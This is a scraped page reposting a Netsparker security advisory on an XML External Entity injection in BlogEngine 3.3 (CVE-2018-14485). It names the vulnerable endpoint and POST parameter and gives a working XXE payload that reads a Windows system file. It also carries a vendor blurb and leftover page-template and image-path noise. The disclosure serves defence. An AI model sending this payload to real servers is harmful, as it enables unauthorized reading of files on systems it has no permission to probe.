BlogEngine 3.3 XML External Entity Injection

Risk: High
Local: No
Remote: Yes

XML External Entity Injection Vulnerability in BlogEngine 3.3 Information --- Advisory by Netsparker Name: XML External Entity Injection Vulnerability in BlogEngine 3.3 Affected Software: BlogEngine Affected Versions: 3.3 Homepage: Vulnerability: XML External Entity (XXE)Injection Vulnerability Severity: High Status: Not Fixed CVE-ID: 2018-14485 CVSS Score (3.0): CVSS:3.0/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:N/A:H Netsparker Advisory Reference: NS-18-045 Technical Details --- Url: http://websiteurl-blogengine3.3/metaweblog.axd Parameter Name: BodyXML Parameter Type: POST Attack Pattern: <?xml version="1.0"?><!DOCTYPE ns [<!ELEMENT ns ANY><!ENTITY lfi SYSTEM "file:///C:/Windows/System32/drivers/etc/hosts">]><ns>&lfi;</ns> Advisory Timeline --- 12th November 2018- First Attempt to Contact 9th January 2019 - Advisory Released Credits & Authors --- These issues have been discovered by Mustafa YalASSA+-n while testing Netsparker Web Application Security Scanner. About Netsparker --- Netsparker web application security scanners find and report security flaws and vulnerabilities such as SQL Injection and Cross-site Scripting (XSS) in all websitesand web applications, regardless of the platform and technology they are built on. Netsparker scanning engineas unique detection and exploitation techniques allow it to be dead accurate in reporting vulnerabilities. The Netsparker web application security scanner is available in two editions; Netsparker Desktop and Netsparker Cloud. Visit our website for more information.

Vote for this issue:


Thanks for you vote!Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm' }} CET+1
{{x.comment }}

Copyright 2019,


Back to Top